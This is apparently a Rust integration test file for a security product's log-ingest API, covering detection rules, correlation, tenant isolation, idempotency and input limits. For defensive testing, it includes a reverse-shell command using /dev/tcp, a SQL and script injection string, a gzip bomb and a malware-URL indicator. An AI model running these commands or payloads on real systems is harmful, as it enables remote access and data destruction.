//! `POST /api/v1/agents/events`: from a line to the incident, and what nobody should send.

use std::io::Write;

use axum::body::Body;
use serde_json::{Value, json};
use sg_server::jobs;
use sg_types::api::Page;
use sg_types::api::agents::{EndpointEventView, EndpointView, EventsReport};
use sg_types::api::threats::{IncidentDetail, IncidentView};
use sg_types::api::users::KeyScope;
use sg_types::{AgentId, EndpointKind, Liveness, Role, Severity, TenantId};

use crate::fleet::{Response, TestCaller, TestServer};

const PATH: &str = "/api/v1/agents/events";
const LINES: (&str, &str) = ("content-type", "application/x-ndjson");

/// A reverse shell as Elastic Agent tells it.
fn shell(server: &TestServer, id: &str, host: &str) -> String {
    json!({
        "@timestamp": server.state.now(), "ecs": { "version": "8.11.0" }, "host": { "name": host, "os": { "type": "linux" } },
        "event": { "id": id, "category": ["process"], "type": ["start"] }, "user": { "name": "www-data" },
        "process": { "executable": "/usr/bin/bash", "command_line": "bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", "pid": 7 },
    })
    .to_string()
}

fn sigma(fields: Value) -> String {
    json!({ "logsource": { "product": "acme", "service": "vpn" }, "fields": fields }).to_string()
}

async fn send(server: &TestServer, token: &str, source: &str, body: impl Into<Body>) -> Response {
    let path = format!("{PATH}?source={source}");
    server.send_raw("POST", &path, token, &[LINES], body.into()).await
}

async fn events(server: &TestServer, caller: &TestCaller, agent_id: AgentId) -> Vec<EndpointEventView> {
    let path = format!("/api/v1/agents/endpoints/{agent_id}/events?limit=500");
    server
        .get(caller, &path)
        .await
        .expect::<Page<EndpointEventView>>(200)
        .items
}

async fn incidents(server: &TestServer, caller: &TestCaller) -> Vec<IncidentView> {
    let path = "/api/v1/threats/incidents";
    server
        .get(caller, path)
        .await
        .expect::<Page<IncidentView>>(200)
        .items
}

async fn shipper(server: &TestServer, caller: &TestCaller, tenant_id: TenantId) -> String {
    server.key(tenant_id, caller.user_id, &[KeyScope::Events]).await.1
}

#[tokio::test]
async fn an_event_of_a_log_becomes_an_incident_that_explains_itself() {
    let server = TestServer::start().await;
    let admin = server.caller(TenantId::DEFAULT, Role::Admin).await;
    let key = shipper(&server, &admin, TenantId::DEFAULT).await;
    let body = format!(
        "{}\nno event\n{}\n",
        shell(&server, "1", "web-1"),
        shell(&server, "2", "web-1")
    );
    let report: EventsReport = send(&server, &key, "elastic", body.clone()).await.expect(200);
    assert_eq!(
        (report.received, report.stored, report.repeated, report.refused),
        (3, 2, 0, 1)
    );
    assert_eq!(
        (report.errors[0].line, report.errors[0].code.as_str()),
        (2, "invalid_json")
    );
    assert!(report.matches >= 2);

    let found = incidents(&server, &admin).await;
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(
        (found[0].agent_id, found[0].occurrence_count),
        (Some(report.agent_id), report.matches)
    );
    assert_eq!(
        found[0].command_line.as_deref(),
        Some("bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1")
    );
    let path = format!("/api/v1/threats/incidents/{}", found[0].threat_id);
    let detail: IncidentDetail = server.get(&admin, &path).await.expect(200);
    let finding = serde_json::to_value(&detail.findings[0]).unwrap();
    assert!(
        finding["explanation"].as_str().unwrap().contains("/dev/tcp/"),
        "{finding}"
    );
    assert!(finding["tags"].to_string().contains("attack.t"), "{finding}");

    // What is sent again changes nothing.
    let again: EventsReport = send(&server, &key, "Elastic", body).await.expect(200);
    assert_eq!((again.stored, again.repeated, again.matches), (0, 2, 0));
    assert_eq!(
        again.agent_id, report.agent_id,
        "a source is known by its name in any case"
    );
    assert_eq!(
        incidents(&server, &admin).await[0].occurrence_count,
        found[0].occurrence_count
    );

    let stored = events(&server, &admin, report.agent_id).await;
    assert_eq!(stored.len(), 2);
    assert_eq!(stored[0].kind, "logged");
    assert_eq!(stored[0].detail["fields"]["Image"], "/usr/bin/bash");
    // And any rule can be asked about it.
    let asked = json!({ "rule_id": finding["rule_id"], "event_id": stored[0].event_id });
    let explained: Value = server
        .post(&admin, "/api/v1/threats/rules/explanations", asked)
        .await
        .expect(200);
    assert_eq!(explained["matched"], true, "{explained}");
}

#[tokio::test]
async fn the_tenants_own_rules_and_correlations_count_them() {
    let server = TestServer::start().await;
    let admin = server.caller(TenantId::DEFAULT, Role::Admin).await;
    let key = shipper(&server, &admin, TenantId::DEFAULT).await;
    let text = "title: VPN refused\nid: vpn-refused\nname: vpn_refused\nlevel: medium\nlogsource:\n    product: acme\n    service: vpn\n\
         detection:\n    sel:\n        outcome: refused\n    condition: sel\n---\ntitle: VPN refused many\nid: vpn-many\nlevel: high\n\
         correlation:\n    type: event_count\n    rules: [vpn_refused]\n    group-by: [user]\n    timespan: 5m\n    condition: {gte: 3}\n";
    for (number, part) in text.split("---\n").enumerate() {
        let body = json!({ "kind": "sigma", "text": part, "reason": "because" });
        let answer = server.post(&admin, "/api/v1/threats/rules", body).await;
        answer.expect::<Value>(201);
        if number == 0 {
            let alone: EventsReport = send(
                &server,
                &key,
                "vpn",
                sigma(json!({ "outcome": "refused", "user": "zoe" })),
            )
            .await
            .expect(200);
            assert_eq!(alone.matches, 1, "the rule is in force at once");
        }
    }
    let refused = |id: u32, user: &str| {
        json!({ "logsource": { "product": "acme", "service": "vpn" }, "id": id, "fields": { "outcome": "refused", "user": user } }).to_string()
    };
    let two: Vec<String> = [refused(1, "eve"), refused(2, "eve"), refused(3, "bob")].into();
    let report: EventsReport = send(&server, &key, "vpn", two.join("\n")).await.expect(200);
    assert_eq!(report.matches, 0, "what is correlated is silent by itself");
    send(&server, &key, "vpn", two.join("\n"))
        .await
        .expect::<EventsReport>(200);
    jobs::judge_correlations(server.state.clone()).await.unwrap();
    assert_eq!(incidents(&server, &admin).await.len(), 1, "repeats count once");
    send(&server, &key, "vpn-2", refused(4, "eve"))
        .await
        .expect::<EventsReport>(200);
    for _ in 0..100 {
        jobs::judge_correlations(server.state.clone()).await.unwrap();
        if incidents(&server, &admin).await.len() == 2 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let found = incidents(&server, &admin).await;
    let many = found
        .iter()
        .find(|one| one.title.starts_with("VPN refused many"))
        .unwrap();
    assert_eq!(many.severity, Severity::High);
}

#[tokio::test]
async fn a_source_is_an_endpoint_that_nobody_waits_for() {
    let server = TestServer::start().await;
    let admin = server.caller(TenantId::DEFAULT, Role::Admin).await;
    let key = shipper(&server, &admin, TenantId::DEFAULT).await;
    let report: EventsReport = send(&server, &key, "firewall", sigma(json!({ "a": 1 })))
        .await
        .expect(200);
    let id = report.agent_id;
    let path = format!("/api/v1/agents/endpoints/{id}");
    let view: EndpointView = server.get(&admin, &path).await.expect(200);
    assert_eq!(
        (view.kind, view.hostname.as_str()),
        (EndpointKind::LogSource, "firewall")
    );
    assert_eq!(view.liveness, Liveness::Online);
    server.clock.advance(chrono::Duration::days(3));
    jobs::note_missed_check_ins(server.state.clone()).await.unwrap();
    let view: EndpointView = server.get(&admin, &path).await.expect(200);
    assert_eq!((view.liveness, view.online), (Liveness::Stale, true));
    assert_eq!(server.count("select count(*) from agents.gaps").await, 0);
    assert_eq!(server.count("select count(*) from agents.deadlines").await, 0);
    // No command goes there, and no host takes its place.
    let asked = json!({ "kind": "list_processes", "reason": "because" });
    let answer = server.post(&admin, &format!("{path}/commands"), asked).await;
    assert!(answer.status.is_client_error(), "{answer:?}");
    assert_eq!(
        server
            .count("select count(*) from audit.events where action = 'log_source.register'")
            .await,
        1
    );
    // Out of service it takes nothing.
    let answer = server
        .post(&admin, &format!("{path}/decommission"), json!({}))
        .await;
    assert_eq!(answer.status, 200);
    let refused = send(&server, &key, "FIREWALL", sigma(json!({ "a": 2 }))).await;
    assert_eq!(
        (refused.status.as_u16(), refused.body["code"].as_str().unwrap()),
        (409, "source_decommissioned")
    );
    assert_eq!(server.count("select count(*) from agents.events").await, 1);
}

#[tokio::test]
async fn a_subscription_bounds_sources_as_it_bounds_endpoints() {
    let server = TestServer::start().await;
    let admin = server.caller(TenantId::DEFAULT, Role::Admin).await;
    let key = shipper(&server, &admin, TenantId::DEFAULT).await;
    server
        .sql("update users.subscriptions set max_endpoints = 1")
        .await;
    send(&server, &key, "one", sigma(json!({ "a": 1 })))
        .await
        .expect::<EventsReport>(200);
    let refused = send(&server, &key, "two", sigma(json!({ "a": 1 }))).await;
    assert!(refused.status.is_client_error(), "{refused:?}");
    send(&server, &key, "one", sigma(json!({ "a": 2 })))
        .await
        .expect::<EventsReport>(200);
    // The server's own entry takes no place.
    server
        .sql("select agents.server_endpoint('00000000-0000-0000-0000-000000000001', now())")
        .await;
    assert_eq!(server.count("select endpoints_used from users.subscription_of('00000000-0000-0000-0000-000000000001', now())").await, 1);
}

#[tokio::test]
async fn only_keys_for_events_of_people_who_may_send_them_open_it() {
    let server = TestServer::start().await;
    let admin = server.caller(TenantId::DEFAULT, Role::Admin).await;
    let other_tenant = server.tenant("other").await;
    let other = server.caller(other_tenant, Role::Admin).await;
    let user = server.caller(TenantId::DEFAULT, Role::User).await;
    let line = sigma(json!({ "a": 1 }));
    let own_key = shipper(&server, &admin, TenantId::DEFAULT).await;
    let (_, enrol) = server
        .key(
            TenantId::DEFAULT,
            admin.user_id,
            &[KeyScope::Enrol, KeyScope::Api],
        )
        .await;
    let low = shipper(&server, &user, TenantId::DEFAULT).await;
    for (token, status, code) in [
        ("", 401, "unauthenticated"),
        ("sgk_none", 401, "unauthenticated"),
        (enrol.as_str(), 403, "key_scope"),
        (low.as_str(), 403, "missing_permission"),
    ] {
        let refused = send(&server, token, "x", line.clone()).await;
        assert_eq!(
            (refused.status.as_u16(), refused.body["code"].as_str().unwrap()),
            (status, code),
            "{token}"
        );
    }
    assert_eq!(server.count("select count(*) from agents.endpoints").await, 0);
    // It reads nothing.
    for path in [
        "/api/v1/agents/endpoints",
        "/api/v1/threats/incidents",
        "/api/v1/sessions/current",
    ] {
        let refused = server.send("GET", path, &own_key, None).await;
        assert!(
            refused.status == 403 || refused.status == 404,
            "{path}: {refused:?}"
        );
    }
    // A key of another tenant makes a source of its own, whatever name it gives and whichever tenant it asks for.
    let mine: EventsReport = send(&server, &own_key, "x", line.clone()).await.expect(200);
    let foreign = shipper(&server, &other, other_tenant).await;
    let theirs: EventsReport = send(&server, &foreign, "x", shell(&server, "1", "x"))
        .await
        .expect(200);
    assert_ne!(mine.agent_id, theirs.agent_id);
    assert_eq!(events(&server, &admin, mine.agent_id).await.len(), 1);
    assert_eq!(incidents(&server, &admin).await, []);
    assert_eq!(incidents(&server, &other).await.len(), 1);
    let path = format!("/api/v1/agents/endpoints/{}", mine.agent_id);
    assert_eq!(server.get(&other, &path).await.status, 404);
    let own = TenantId::DEFAULT.to_string();
    let headers = [LINES, ("x-secureguard-tenant", own.as_str())];
    let refused = server
        .send_raw(
            "POST",
            &format!("{PATH}?source=x"),
            &foreign,
            &headers,
            Body::from(line),
        )
        .await;
    assert_eq!(refused.status, 404);
}

#[tokio::test]
async fn events_without_an_id_are_known_by_the_requests_key() {
    let server = TestServer::start().await;
    let admin = server.caller(TenantId::DEFAULT, Role::Admin).await;
    let key = shipper(&server, &admin, TenantId::DEFAULT).await;
    let path = format!("{PATH}?source=app");
    let lines = format!("{}\n{}", sigma(json!({ "a": 1 })), sigma(json!({ "a": 1 })));
    let send = |idempotency: &'static str, body: String| {
        let (server, path, key) = (&server, &path, &key);
        async move {
            let headers = [LINES, ("idempotency-key", idempotency)];
            server
                .send_raw("POST", path, key, &headers, Body::from(body))
                .await
        }
    };
    let report: EventsReport = send("k1", lines.clone()).await.expect(200);
    assert_eq!(
        (report.stored, report.repeated),
        (2, 0),
        "two that look alike are two"
    );
    server.clock.advance(chrono::Duration::minutes(3));
    let report: EventsReport = send("k1", lines.clone()).await.expect(200);
    assert_eq!((report.stored, report.repeated), (0, 2));
    let report: EventsReport = send("k1", sigma(json!({ "a": 3 }))).await.expect(200);
    assert_eq!(
        report.stored, 1,
        "another event under a key that was used is not lost"
    );
    let report: EventsReport = send("k2", lines).await.expect(200);
    assert_eq!(report.stored, 2);
    let long: &'static str = "x".repeat(201).leak();
    for bad in ["", long] {
        assert_eq!(send(bad, sigma(json!({}))).await.status, 400);
    }
}

#[tokio::test]
async fn a_wrong_clock_is_told_beside_the_time_of_receipt() {
    let server = TestServer::start().await;
    let admin = server.caller(TenantId::DEFAULT, Role::Admin).await;
    let key = shipper(&server, &admin, TenantId::DEFAULT).await;
    let at = |time: &str, id: &str| {
        json!({ "logsource": { "product": "x" }, "id": id, "time": time, "fields": { "a": 1 } }).to_string()
    };
    let body = [
        at("2099-01-01T00:00:00Z", "1"),
        at("1970-01-01T00:00:00Z", "2"),
        at("-262000-01-01T00:00:00Z", "3"),
        at("9999-12-31T23:59:59Z", "4"),
    ]
    .join("\n");
    let report: EventsReport = send(&server, &key, "clock", body.clone()).await.expect(200);
    assert_eq!((report.stored, report.refused), (3, 1), "{report:?}");
    assert_eq!(
        server.count("select count(*) from agents.events where agent_occurred_at is not null and occurred_at = received_at").await,
        3
    );
    server.clock.advance(chrono::Duration::minutes(3));
    let report: EventsReport = send(&server, &key, "clock", body).await.expect(200);
    assert_eq!((report.stored, report.repeated), (0, 3), "also once more");
}

#[tokio::test]
async fn bodies_are_bounded_however_they_are_made() {
    let server = TestServer::start().await;
    let admin = server.caller(TenantId::DEFAULT, Role::Admin).await;
    let key = shipper(&server, &admin, TenantId::DEFAULT).await;
    let path = format!("{PATH}?source=x");
    let with = |headers: Vec<(&'static str, &'static str)>, body: Vec<u8>| {
        let (server, path, key) = (&server, &path, &key);
        async move {
            let mut all = vec![LINES];
            all.extend(headers);
            server.send_raw("POST", path, key, &all, Body::from(body)).await
        }
    };
    let line = sigma(json!({ "a": 1 }));
    let gzip = |text: &[u8]| {
        let mut writer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        writer.write_all(text).unwrap();
        writer.finish().unwrap()
    };
    for (coding, body) in [
        ("gzip", gzip(line.as_bytes())),
        ("zstd", zstd::encode_all(line.as_bytes(), 3).unwrap()),
        ("identity", line.clone().into_bytes()),
    ] {
        let report: EventsReport = with(vec![("content-encoding", coding)], body).await.expect(200);
        assert_eq!(report.stored, 1, "{coding}");
    }
    let bomb = gzip(&vec![b'\n'; 64 << 20]);
    for (coding, body, status) in [
        ("gzip", bomb, 413),
        ("gzip", line.clone().into_bytes(), 400),
        ("br", line.clone().into_bytes(), 415),
        ("identity", b"{\n".repeat(1_000_000), 413),
        ("identity", vec![b'x'; 40 << 20], 413),
    ] {
        let refused = with(vec![("content-encoding", coding)], body).await;
        assert_eq!(refused.status, status, "{coding}: {refused:?}");
    }
    // Hostile lines beside a good one.
    let mut body = format!("{line}\n").into_bytes();
    body.extend([0xc3, 0x28, b'\n']);
    body.extend(format!("{}1{}\n", "[".repeat(30_000), "]".repeat(30_000)).bytes());
    body.extend(vec![b'a'; 65 * 1024]);
    body.push(b'\n');
    body.extend(
        sigma(json!({ "a": "'; drop table users.users; --\u{0}\u{202e}<script>alert(1)</script>" })).bytes(),
    );
    let report: EventsReport = with(Vec::new(), body).await.expect(200);
    let codes: Vec<&str> = report.errors.iter().map(|one| one.code.as_str()).collect();
    assert_eq!(
        (report.stored, codes),
        (2, vec!["invalid_utf8", "too_deep", "too_long"])
    );
    let report: EventsReport = with(Vec::new(), Vec::new()).await.expect(200);
    assert_eq!(report.received, 0);
    for (query, status) in [
        ("", 400),
        ("?source=", 400),
        ("?source=%00", 400),
        ("?source=a%0ab", 400),
        ("?source=a&colour=red", 400),
        ("?source=a&product=%07", 400),
    ] {
        let answer = server
            .send_raw("POST", &format!("{PATH}{query}"), &key, &[LINES], Body::empty())
            .await;
        assert_eq!(answer.status, status, "{query}");
    }
    let text = server
        .send_raw(
            "POST",
            &path,
            &key,
            &[("content-type", "text/plain")],
            Body::empty(),
        )
        .await;
    assert_eq!(text.status, 415);
}

#[tokio::test]
async fn senders_at_the_same_time_store_each_event_once() {
    let server = TestServer::start().await;
    let admin = server.caller(TenantId::DEFAULT, Role::Admin).await;
    let key = shipper(&server, &admin, TenantId::DEFAULT).await;
    let line =
        |n: usize| json!({ "logsource": { "product": "x" }, "id": n, "fields": { "n": n } }).to_string();
    let lines: Vec<String> = (0..200).map(line).collect();
    let all = futures_util::future::join_all((0..8).map(|turn| {
        let mut lines = lines.clone();
        lines.rotate_left(turn * 25);
        send(&server, &key, "busy", lines.join("\n"))
    }))
    .await;
    let mut stored = 0;
    for answer in all {
        let report: EventsReport = answer.expect(200);
        assert_eq!(report.stored + report.repeated, 200);
        stored += report.stored;
    }
    assert_eq!(stored, 200);
    assert_eq!(server.count("select count(*) from agents.events").await, 200);
    assert_eq!(
        server
            .count("select count(*) from agents.endpoints where kind = 'log_source'")
            .await,
        1
    );
}

#[tokio::test]
async fn a_url_of_a_stix_bundle_is_found_in_a_proxys_log() {
    let server = TestServer::start().await;
    let admin = server.caller(TenantId::DEFAULT, Role::Admin).await;
    let key = shipper(&server, &admin, TenantId::DEFAULT).await;
    let bundle = json!({ "type": "bundle", "objects": [
        { "type": "indicator", "id": "indicator--1", "name": "Malware download", "pattern_type": "stix",
          "pattern": "[url:value = 'http://bad.example/stage2.bin']" },
    ] });
    let rule = json!({ "kind": "indicator", "name": "cert.json", "text": bundle.to_string() });
    server
        .post(&admin, "/api/v1/threats/rules", rule)
        .await
        .expect::<Value>(201);
    let request = |url: &str| {
        json!({ "@timestamp": server.state.now(), "ecs": { "version": "8.11.0" }, "event": { "category": ["web"] }, "url": { "original": url } })
            .to_string()
    };
    let body = format!(
        "{}\n{}\n{}\n",
        request("http://BAD.example:80/stage2.bin#x"),
        request("http://bad.example/stage1.bin"),
        request("/stage2.bin")
    );
    let report: EventsReport = send(&server, &key, "proxy", body).await.expect(200);
    assert_eq!((report.stored, report.matches), (3, 1));
    let found = incidents(&server, &admin).await;
    assert_eq!(
        (found[0].title.as_str(), found[0].severity),
        ("Malware download", Severity::High)
    );
}
